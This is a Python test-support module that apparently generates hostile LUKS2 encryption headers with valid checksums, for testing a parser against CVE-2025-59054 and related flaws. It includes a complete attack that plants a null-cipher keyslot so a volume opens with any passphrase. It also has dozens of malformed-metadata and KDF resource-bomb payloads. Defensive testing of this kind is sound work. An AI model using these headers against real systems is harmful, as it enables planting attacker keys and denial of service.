"""A maker of hostile LUKS2 headers: whatever an attacker can write, with valid checksums."""

from __future__ import annotations

import base64
import hashlib
import json
import random
import struct
from collections.abc import Callable
from hashlib import pbkdf2_hmac  # by this name: tests forbid the one that the product calls
from typing import Any

COPY = 0x4000


def metadata(area: bytes) -> dict[str, Any]:
    """The JSON of the primary copy."""
    return json.loads(area[4096:COPY].rstrip(b"\0"))


def with_text(area: bytes, text: bytes, *, copies: tuple[int, ...] = (0, COPY)) -> bytes:
    """The area with another JSON text, checksums renewed."""
    changed = bytearray(area)
    for at in copies:
        changed[at + 4096 : at + COPY] = text.ljust(COPY - 4096, b"\0")
        renew_checksum(changed, at)
    return bytes(changed)


def with_metadata(area: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    """The area with edited JSON."""
    root = metadata(area)
    edit(root)
    return with_text(area, json.dumps(root).encode())


def with_binary(area: bytes, offset: int, value: bytes, *, both: bool = True) -> bytes:
    """The area with other bytes in its binary headers."""
    changed = bytearray(area)
    for at in (0, COPY) if both else (0,):
        changed[at + offset : at + offset + len(value)] = value
        renew_checksum(changed, at)
    return bytes(changed)


def renew_checksum(area: bytearray, at: int) -> None:
    area[at + 448 : at + 512] = bytes(64)
    size = struct.unpack(">Q", area[at + 8 : at + 16])[0]
    area[at + 448 : at + 480] = hashlib.sha256(area[at : at + min(size, COPY)]).digest()


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    *parents, last = path.split("/")

    def edit(root: dict[str, Any]) -> None:
        for part in parents:
            root = root[part]
        root[last] = value

    return edit


def _drop(path: str) -> Callable[[dict[str, Any]], None]:
    *parents, last = path.split("/")

    def edit(root: dict[str, Any]) -> None:
        for part in parents:
            root = root[part]
        del root[last]

    return edit


ATTACKERS_KEY = bytes(range(64))
"""The volume key that `with_attackers_key` plants."""

_STRIPES = 4000


def with_attackers_key(area: bytes) -> bytes:
    """The whole attack: a volume of the attacker's that opens with *any* passphrase.

    The keyslot's cipher is none at all, so its stripes yield the attacker's key
    whatever was derived; the digest agrees, since it is the digest of that key.
    """
    salt = base64.b64decode(metadata(area)["digests"]["0"]["salt"])
    digest = pbkdf2_hmac("sha256", ATTACKERS_KEY, salt, 1000)

    def edit(root: dict[str, Any]) -> None:
        root["keyslots"]["0"]["area"]["encryption"] = "cipher_null-ecb"
        root["digests"]["0"] |= {
            "iterations": 1000,
            "digest": base64.b64encode(digest).decode(),
        }

    changed = bytearray(with_metadata(area, edit))
    stripes = _split(ATTACKERS_KEY)
    changed[2 * COPY : 2 * COPY + len(stripes)] = stripes
    return bytes(changed)


def _split(key: bytes) -> bytes:
    """The anti-forensic split (LUKS1 On-Disk Format, 2.4) that yields ``key`` when merged."""
    stripes = random.Random(7).randbytes(len(key) * (_STRIPES - 1))
    state = bytes(len(key))
    for at in range(0, len(stripes), len(key)):
        mixed = _xor(state, stripes[at : at + len(key)])
        state = b"".join(
            hashlib.sha256(struct.pack(">I", i) + mixed[32 * i : 32 * i + 32]).digest()
            for i in range(len(key) // 32)
        )
    return stripes + _xor(state, key)


def _xor(one: bytes, other: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(one, other, strict=True))


_ARGON2_BOMB = {
    "type": "argon2id",
    "time": 2**32 - 1,
    "memory": 4 * 1024 * 1024,
    "cpus": 4,
    "salt": "A" * 43 + "=",
}

EDITS: dict[str, Callable[[dict[str, Any]], None]] = {
    # the attacks of CVE-2025-59054 and their neighbours
    "null keyslot cipher": _set("keyslots/0/area/encryption", "cipher_null-ecb"),
    "null segment cipher": _set("segments/0/encryption", "cipher_null-ecb"),
    "null kernel cipher": _set("segments/0/encryption", "capi:ecb(cipher_null)-plain"),
    "kernel keyslot cipher": _set("keyslots/0/area/encryption", "capi:ecb(cipher_null)-plain"),
    "cipher of 32-bit sectors": _set("segments/0/encryption", "aes-xts-plain"),
    "cipher of big-endian sectors": _set("segments/0/encryption", "aes-xts-plain64be"),
    "cipher in capitals": _set("segments/0/encryption", "AES-XTS-PLAIN64"),
    "cipher with a blank": _set("segments/0/encryption", "aes-xts-plain64 "),
    "cipher with a NUL": _set("segments/0/encryption", "aes-xts-plain64\0"),
    "disk's own encryption": _set("segments/0/type", "hw-opal"),
    "disk's encryption below": _set("segments/0/type", "hw-opal-crypt"),
    "other segment cipher": _set("segments/0/encryption", "aes-cbc-essiv:sha256"),
    "iv_tweak": _set("segments/0/iv_tweak", "8"),
    "segment offset": _set("segments/0/offset", "16781312"),
    "segment offset with a sign": _set("segments/0/offset", "+16777216"),
    "segment offset with a zero": _set("segments/0/offset", "016777216"),
    "segment offset below zero": _set("segments/0/offset", "-4096"),
    "segment offset beyond 64 bits": _set("segments/0/offset", str(2**64 + (16 << 20))),
    "segment offset as number": _set("segments/0/offset", 16 << 20),
    "segment offset in other digits": _set("segments/0/offset", "\u0661\u0666\u0667"),
    "iv_tweak below zero": _set("segments/0/iv_tweak", "-1"),
    "iv_tweak missing": _drop("segments/0/iv_tweak"),
    "segment size": _set("segments/0/size", "4096"),
    "segment size zero": _set("segments/0/size", "0"),
    "sector size": _set("segments/0/sector_size", 512),
    "larger sectors": _set("segments/0/sector_size", 8192),
    "sector size as text": _set("segments/0/sector_size", "4096"),
    "segment flags": _set("segments/0/flags", ["in-reencryption"]),
    "linear segment": _set("segments/0/type", "linear"),
    "integrity": _set("segments/0/integrity", {"type": "none"}),
    "two segments": lambda root: root["segments"].update({"1": root["segments"]["0"]}),
    "segment renamed": lambda root: root.update(segments={"1": root["segments"]["0"]}),
    "no segment": _set("segments", {}),
    "backup segments": lambda root: root["segments"].update(
        {"1": root["segments"]["0"] | {"flags": ["backup-previous"]}}
    ),
    "unknown requirement": _set("config/requirements", {"mandatory": ["what-is-this"]}),
    "no requirement": _set("config/requirements", {"mandatory": []}),
    "requirements": _set("config/requirements", {"mandatory": ["online-reencrypt"]}),
    "config flags": _set("config/flags", ["allow-discards"]),
    "json size": _set("config/json_size", "4096"),
    "keyslots size": _set("config/keyslots_size", "4096"),
    "token that runs a program": _set("tokens", {"0": {"type": "systemd-tpm2", "keyslots": ["0"]}}),
    "token": _set("tokens", {"0": {"type": "luks2-keyring", "keyslots": ["0"]}}),
    "argon2 bomb": _set("keyslots/0/kdf", _ARGON2_BOMB),
    "argon2 time": _set("keyslots/0/kdf", {**_ARGON2_BOMB, "memory": 65536}),
    "argon2 memory": _set("keyslots/0/kdf", {**_ARGON2_BOMB, "time": 4}),
    "argon2 without memory": _set("keyslots/0/kdf", {**_ARGON2_BOMB, "time": 4, "memory": 0}),
    "argon2 lanes": _set(
        "keyslots/0/kdf", {**_ARGON2_BOMB, "time": 4, "memory": 65536, "cpus": 2**32 - 1}
    ),
    "argon2 without lanes": _set(
        "keyslots/0/kdf", {**_ARGON2_BOMB, "time": 4, "memory": 65536, "cpus": 0}
    ),
    "argon2i": _set("keyslots/0/kdf/type", "argon2i"),
    "endless pbkdf2": _set("keyslots/0/kdf/iterations", 10**300),
    "pbkdf2 without iterations": _set("keyslots/0/kdf/iterations", 0),
    "pbkdf2 bomb": _set("keyslots/0/kdf/iterations", 2**31),
    "weak pbkdf2": _set("keyslots/0/kdf/iterations", 1),
    "negative pbkdf2": _set("keyslots/0/kdf/iterations", -1000),
    "boolean pbkdf2": _set("keyslots/0/kdf/iterations", True),
    "kdf hash": _set("keyslots/0/kdf/hash", "sha1"),
    "short salt": _set("keyslots/0/kdf/salt", "AAAA"),
    "salt not base64": _set("keyslots/0/kdf/salt", "*" * 44),
    "salt not text": _set("keyslots/0/kdf/salt", 7),
    "kdf missing": _drop("keyslots/0/kdf"),
    "kdf null": _set("keyslots/0/kdf", None),
    "two keyslots": lambda root: root["keyslots"].update({"1": root["keyslots"]["0"]}),
    "keyslot priority": _set("keyslots/0/priority", 2),
    "keyslot key size": _set("keyslots/0/key_size", 32),
    "keyslot type": _set("keyslots/0/type", "reencrypt"),
    "area in the segment": _set("keyslots/0/area/offset", "16777216"),
    "area in the metadata": _set("keyslots/0/area/offset", "4096"),
    "reencryption area": _set("keyslots/0/area/type", "journal"),
    "area offset": _set("keyslots/0/area/offset", "0"),
    "area size": _set("keyslots/0/area/size", "18446744073709551615"),
    "area type": _set("keyslots/0/area/type", "none"),
    "stripes": _set("keyslots/0/af/stripes", 1),
    "stripe hash": _set("keyslots/0/af/hash", "md5"),
    "digest bomb": _set("digests/0/iterations", 2**31),
    "weak digest": _set("digests/0/iterations", 1),
    "digest hash": _set("digests/0/hash", "sha1"),
    "short digest": _set("digests/0/digest", "AAAA"),
    "digest segments": _set("digests/0/segments", []),
    "digest keyslots": _set("digests/0/keyslots", ["0", "1"]),
    "two digests": lambda root: root["digests"].update({"1": root["digests"]["0"]}),
    "unknown part": _set("surprise", {}),
    "part missing": _drop("tokens"),
    "part of another kind": _set("keyslots", []),
}

CRAFTED: dict[str, Callable[[bytes], bytes]] = (
    {
        name: (lambda area, edit=edit: with_metadata(area, edit))  # type: ignore[misc]
        for name, edit in EDITS.items()
    }
    | {
        "attacker's volume key": with_attackers_key,
        "checksum in capitals": lambda area: with_binary(area, 72, b"SHA256"),
        "longer checksum": lambda area: with_binary(area, 72, b"sha512"),
        "newer version": lambda area: with_binary(area, 6, b"\0\3"),
        "both magics alike": lambda area: with_binary(area, 0, b"LUKS\xba\xbe"),
        "copies change places": lambda area: area[COPY : 2 * COPY] + area[:COPY] + area[2 * COPY :],
        "hidden key": lambda area: with_text(
            area, json.dumps(metadata(area)).encode().replace(b'"kdf"', b'"kdf\\u0000": {}, "kdf"')
        ),
        "no magic": lambda area: with_binary(area, 0, b"XXXX"),
        "LUKS1": lambda area: with_binary(area, 6, b"\0\1"),
        "metadata size": lambda area: with_binary(area, 8, struct.pack(">Q", 0x8000)),
        "endless metadata size": lambda area: with_binary(area, 8, b"\xff" * 8),
        "label": lambda area: with_binary(area, 24, b"evil"),
        "checksum algorithm": lambda area: with_binary(area, 72, b"md5\0\0\0"),
        "another uuid": lambda area: with_binary(area, 168, b"99999999"),
        "subsystem": lambda area: with_binary(area, 208, b"evil"),
        "header offset": lambda area: with_binary(area, 256, b"\xff" * 8),
        "padding": lambda area: with_binary(area, 300, b"x"),
        "tail": lambda area: with_binary(area, 4000, b"x"),
        "primary only": lambda area: area[:COPY] + bytes(COPY) + area[2 * COPY :],
        "secondary only": lambda area: bytes(COPY) + area[COPY:],
        "sequence ids differ": lambda area: with_binary(area, 16, b"\0" * 7 + b"\x63", both=False),
        "checksum": lambda area: area[:448] + b"\xff" + area[449:],
        "newer secondary": lambda area: with_text(
            area, json.dumps(metadata(area) | {"tokens": {"0": {}}}).encode(), copies=(COPY,)
        ),
        "doubled key": lambda area: with_text(
            area, json.dumps(metadata(area)).encode().replace(b"{", b'{"tokens": {}, ', 1)
        ),
        "bytes behind": lambda area: with_text(area, json.dumps(metadata(area)).encode() + b"\0 "),
        "two documents": lambda area: with_text(area, json.dumps(metadata(area)).encode() + b" {}"),
        "fraction": lambda area: with_text(
            area, json.dumps(metadata(area)).encode().replace(b": 4096}", b": 4096.0}")
        ),
        "not a number": lambda area: with_text(
            area, json.dumps(metadata(area)).encode().replace(b": 4096}", b": NaN}")
        ),
        "deep": lambda area: with_text(area, b"[" * 12288),
        "long number": lambda area: with_text(area, b"[" + b"9" * 12000 + b"]"),
        "not text": lambda area: with_text(area, b"\xff\xfe{}"),
        "empty": lambda area: with_text(area, b""),
        "a list": lambda area: with_text(area, b"[]"),
        "cut off": lambda area: area[:-4096],
        "zeros": lambda area: bytes(len(area)),
    }
)
